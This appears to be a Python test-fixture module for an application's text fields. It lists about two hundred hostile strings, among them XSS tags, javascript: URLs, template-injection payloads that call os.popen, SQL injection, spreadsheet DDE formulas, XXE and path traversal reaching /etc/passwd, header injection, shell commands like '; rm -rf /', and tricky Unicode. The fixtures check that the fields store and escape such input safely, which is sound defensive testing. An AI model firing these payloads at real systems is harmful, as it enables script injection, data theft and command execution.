"""Two hundred strings nobody should be able to hurt a page, a document or a person with.

- `SHOWN` are stored and must come back letter by letter (in NFC, without blanks at the ends, as every text).
- `REFUSED` hold characters neither XML nor a page can show; the field says so and nothing is stored.
"""

from __future__ import annotations

import unicodedata

MARKUP = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf_token>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>点我</a>",
    "<a href=' javascript:alert(1)'>点我</a>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</details></main></body></html>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<div hx-get=/logout hx-trigger=load>",
    "<div hx-on:load=alert(1)>",
    "<button hx-post=/cases/x/do/report.sign>",
    "<p data-act=report.sign>",
]
ATTRIBUTES = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "x onfocus=alert(1) autofocus tabindex=1 y",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed;inset:0',
    '" formaction="//evil.example',
    '"/><script>alert(1)</script>',
    '\\" onmouseover=\\"alert(1)',
    "&quot; onmouseover=&quot;alert(1)",
    "&#34;&#62;<b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&copy;&zwj;&NotEqualTilde;",
    "&",
    "&&&",
    "&#0;&#x1;&#xD800;",
    "&unknown;",
    '"',
    "'",
    "`",
    "\\",
    "\\\\\"'",
    "a=b&c=d;e",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example",
    "https://evil.example/?q=<b>",
    "http://user:pass@evil.example/",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x",
    "mailto:a@evil.example?bcc=b@evil.example",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%00%0d%0aX: y",
    "?a=b#c",
    "/cases/final/do/report.sign",
]
TEMPLATES = [
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# 注释 #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config.items() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__ }}",
    "{%p if 1 %}",
    "{%tr for row in rows %}",
    "{{r words }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s%s%s%n",
    "%(name)s",
    "{0} {name} {}",
    "{0.__class__.__init__.__globals__}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "| cat /etc/passwd",
    "[[figure:total]]",
    "[[table:01]]",
    "[[",
    "]]",
    "{{",
    "}}",
    "{% endif %}",
]
QUERIES = [
    "'; DROP TABLE evaluation; --",
    "' OR '1'='1",
    '" OR ""="',
    "1; UPDATE evaluation SET stage = 'signed'",
    "%' OR code LIKE '%",
    "_%_%",
    "\\'; --",
    ":name",
    "?",
    "NULL",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "0",
    "-0",
    "1e308",
    "１２３",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example","点我")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "＝1+1",
    "＠SUM(A1)",
    "a,b;c",
    "'=1+1",
]
DOCUMENTS = [
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    "{ INCLUDETEXT file:///etc/passwd }",
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "</w:t></w:r><w:r><w:instrText>DDE</w:instrText>",
    "]]><w:p/>",
    "_x000D_",
    "_x0041_",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "$\\frac{1}{2}$",
    "%PDF-1.7",
    "(\\) Tj ET",
    "endstream endobj",
    "{\\rtf1 x}",
    "# 标题 **粗** [x](javascript:alert(1))",
    "- 一\n- 二",
    "第一行\n第二行\n\n第四行",
    "a\tb\tc",
]
NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "aux.txt",
    ".htaccess",
    "a/b\\c:d*e?f",
    "x\r\nSet-Cookie: a=b",
    "Subject: x\r\nBcc: y@evil.example",
    "=?utf-8?q?x?=",
    "~root",
    "-rf",
    "--help",
    "!important",
    "yes: [no, {a: b}]",
    "&anchor *alias",
    "!!python/object/apply:os.system ['id']",
    "a: b\n---\nc: d",
]
LETTERS = [
    "\u202e倒写的字\u202c",
    "\u2066隔离\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe",
    "\u061cمرحبا بالعالم",
    "שלום עולם",
    "e\u0301 ﬁ ﬀ ℌ",
    "Å 가 がぎ",
    "ａｂｃ１２３＜ｓｃｒｉｐｔ＞",
    "𠮷野家 𡃁 㐂",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇨🇳",
    "\ue000\uf8ff",
    "\U000f0000私用",
    "Z̷̡̛͓a̶̢̛l̴g̷o̸",
    "ไทย हिन्दी ਪੰਜਾਬੀ",
    "​零宽​开头",
    "\u00a0不断行\u00a0",
    "\u3000全角空格\u3000中间",
    "—…“”‘’《》〈〉【】",
    "\u2028行\u2029段",
    "\u00ad软连字\u00ad符",
    "ı İ ß ẞ ſ",
    "字" * 240,
    "x" * 250,
    "不停" * 90 + "<b>",
]
CONTROLS = [
    "a\x00b", "a\x01b", "\x08退格", "a\x0bb", "a\x0cb", "a\x1b[31m红", "a\x7f\x00", "a\x1fb",
    "a\ufffeb", "a\uffffb",
]  # fmt: skip
"""Of what is refused: NUL, other controls, and what is no character."""

REFUSED = tuple(CONTROLS)
SHOWN = tuple(
    dict.fromkeys(
        (*MARKUP, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *QUERIES, *FORMULAS, *DOCUMENTS, *NAMES, *LETTERS)
    )
)
NUMBER = len(REFUSED) + len(SHOWN)


def kept(text: str) -> str:
    """How a text field keeps what was typed: NFC, one kind of line break, nothing blank at the ends."""
    return unicodedata.normalize("NFC", text.replace("\r\n", "\n")).strip()


def packed(strings: tuple[str, ...], limit: int) -> list[str]:
    """The strings joined into as few texts as a field of `limit` characters takes."""
    packs: list[str] = []
    for each in strings:
        if len(each) > limit - 2:
            continue
        if packs and len(packs[-1]) + len(each) + 3 <= limit - 2:
            packs[-1] += f" ¶ {each}"
        else:
            packs.append(f"¶{each}")
    return [f"{pack}¶" for pack in packs]
